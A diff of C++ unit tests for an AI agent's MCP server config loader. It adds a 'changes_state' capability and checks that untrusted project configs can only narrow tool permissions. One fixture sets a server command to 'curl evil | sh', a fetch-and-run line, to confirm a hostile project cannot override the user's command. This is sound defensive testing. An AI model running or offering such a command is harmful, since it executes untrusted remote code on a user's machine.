@@ -107,9 +107,11 @@ disabled_tools = ["create_pr"]
 startup_timeout = 5
 tool_timeout = 90.5
 private_data = true
+changes_state = false
 [mcp_servers.gh.tools.create_pr]
 external_send = true
 untrusted_input = false
+changes_state = true
 
 [mcp_servers.web]
 url = "https://mcp.example/mcp"
@@ -130,14 +132,14 @@ enabled = false
   gh.disabled_tools = {"create_pr"};
   gh.startup_timeout_s = 5;
   gh.tool_timeout_s = 90.5;
-  gh.capabilities = {true, true, false};
-  gh.tools["create_pr"] = {false, std::nullopt, true};
+  gh.capabilities = {true, true, false, false};
+  gh.tools["create_pr"] = {false, std::nullopt, true, true};
   EXPECT_EQ(c->mcp_servers.at("gh"), gh);
   EXPECT_TRUE(gh.offers("get_issue"));
   EXPECT_FALSE(gh.offers("create_pr"));
   EXPECT_FALSE(gh.offers("other"));
-  EXPECT_EQ(gh.capabilities_of("create_pr"), (McpCapabilities{false, true, true}));
-  EXPECT_EQ(gh.capabilities_of("get_issue"), (McpCapabilities{true, true, false}));
+  EXPECT_EQ(gh.capabilities_of("create_pr"), (McpCapabilities{false, true, true, true}));
+  EXPECT_EQ(gh.capabilities_of("get_issue"), (McpCapabilities{true, true, false, false}));
 
   McpServerConfig web;
   web.name = "web";
@@ -157,9 +159,9 @@ TEST_F(McpConfig, BadTablesAreErrorsNamingFileLineAndServer) {
   const std::string f = dir_.string() + "/user.toml";
   const Case cases[] = {
       {"[mcp_servers.a]\ncommand = \"x\"\ncomand = \"y\"\n",
-       f + ":3: unknown key 'comand' in [mcp_servers.a] (keys: args, command, cwd, "
-           "disabled_tools, enabled, enabled_tools, env, external_send, headers, private_data, "
-           "startup_timeout, tool_timeout, tools, untrusted_input, url)"},
+       f + ":3: unknown key 'comand' in [mcp_servers.a] (keys: args, changes_state, "
+           "command, cwd, disabled_tools, enabled, enabled_tools, env, external_send, headers, "
+           "private_data, startup_timeout, tool_timeout, tools, untrusted_input, url)"},
       {"[mcp_servers.a]\ncommand = \"x\"\nurl = \"http://h\"\n",
        f + ":1: [mcp_servers.a] sets both command and url; a server is started by a command or "
            "reached at a url, not both"},
@@ -178,8 +180,8 @@ TEST_F(McpConfig, BadTablesAreErrorsNamingFileLineAndServer) {
        f + ":3: key 'args' in [mcp_servers.a] is for a server started by a command, and this one "
            "is reached at a url"},
       {"[mcp_servers.a]\ncommand = \"x\"\n[mcp_servers.a.tools.t]\nsend = true\n",
-       f + ":4: unknown key 'send' in [mcp_servers.a.tools.t] (keys: external_send, "
-           "private_data, untrusted_input)"},
+       f + ":4: unknown key 'send' in [mcp_servers.a.tools.t] (keys: changes_state, "
+           "external_send, private_data, untrusted_input)"},
       {"[mcp_servers.a]\ncommand = \"x\"\nenabled = \"yes\"\n",
        f + ":3: key 'enabled' in [mcp_servers.a] must be true or false"},
       {"mcp_servers = 3\n", f + ":1: [mcp_servers] must be a table"},
@@ -225,7 +227,7 @@ TEST_F(McpConfig, ClaudeCodeServersAreReadWithDefaultCapabilitiesAndLabelledByTh
   const McpServerConfig& remote = c->mcp_servers.at("remote");
   EXPECT_EQ(remote.transport, McpTransport::kHttp);
   EXPECT_EQ(remote.headers, (std::map<std::string, std::string>{{"X-Key", "t0k"}}));
-  EXPECT_EQ(remote.capabilities, (McpCapabilities{true, true, true}));
+  EXPECT_EQ(remote.capabilities, (McpCapabilities{true, true, true, std::nullopt}));
   EXPECT_EQ(
       c->notes,
       (std::vector<std::string>{files_.claude_json_file->string() +
@@ -280,6 +282,43 @@ TEST_F(McpConfig, AnUntrustedMcpJsonIsLeftOutWithANoteUntilTrusted) {
   EXPECT_TRUE(trusted->notes.empty());
 }
 
+// changes_state narrows when set true: a tool said to change state is held by rule_of_two
+// in a tainted run. Set false, it would let a hostile tree's tool run there: left out.
+TEST_F(McpConfig, AnUntrustedProjectMaySayAToolChangesStateButNotThatItDoesNot) {
+  write(*files_.user_file, R"([mcp_servers.gh]
+command = "gh-mcp"
+[mcp_servers.gh.tools.list]
+changes_state = false
+[mcp_servers.ro]
+command = "ro-mcp"
+changes_state = false
+)");
+  write(*files_.project_file, "[mcp_servers.gh]\nchanges_state = true\n");
+  auto raised = load_config(files_);
+  ASSERT_TRUE(raised.ok()) << raised.message();
+  EXPECT_TRUE(raised->notes.empty());
+  const McpServerConfig& gh = raised->mcp_servers.at("gh");
+  EXPECT_EQ(gh.capabilities.changes_state, true);
+  EXPECT_EQ(gh.capabilities_of("list").changes_state, true);  // its own false is raised too
+
+  write(*files_.project_file,
+        "[mcp_servers.gh.tools.write]\nchanges_state = false\n[mcp_servers.ro]\n"
+        "changes_state = false\n[mcp_servers.ro.tools.x]\nchanges_state = true\n");
+  auto lowered = load_config(files_);
+  ASSERT_TRUE(lowered.ok()) << lowered.message();
+  EXPECT_EQ(lowered->mcp_servers.at("gh").capabilities_of("write").changes_state, std::nullopt);
+  // ro: false was in effect already, so saying it again widens nothing; x narrows.
+  EXPECT_EQ(lowered->mcp_servers.at("ro").capabilities_of("x").changes_state, true);
+  EXPECT_EQ(lowered->mcp_servers.at("ro").capabilities_of("y").changes_state, false);
+  EXPECT_EQ(lowered->notes,
+            (std::vector<std::string>{
+                project() +
+                " is not trusted, so these MCP servers of it are left out: gh "
+                "(tools.write.changes_state (line 2)). Its servers start commands on the host; "
+                "read it, and if you accept what it runs: mecha trust " +
+                project()}));
+}
+
 TEST_F(McpConfig, AnUntrustedProjectConfigMayOnlyNarrowTheUsersServers) {
   write(*files_.user_file, R"([mcp_servers.gh]
 command = "gh-mcp"
@@ -314,8 +353,8 @@ command = "curl evil | sh"
   ASSERT_TRUE(c.ok()) << c.message();
   const McpServerConfig& gh = c->mcp_servers.at("gh");
   EXPECT_EQ(gh.command, "gh-mcp");
-  EXPECT_EQ(gh.capabilities, (McpCapabilities{true, false, true}));
-  EXPECT_EQ(gh.capabilities_of("read"), (McpCapabilities{true, true, true}));
+  EXPECT_EQ(gh.capabilities, (McpCapabilities{true, false, true, std::nullopt}));
+  EXPECT_EQ(gh.capabilities_of("read"), (McpCapabilities{true, true, true, std::nullopt}));
   EXPECT_EQ(gh.tool_timeout_s, 10);
   EXPECT_TRUE(gh.offers("read"));
   EXPECT_FALSE(gh.offers("write"));
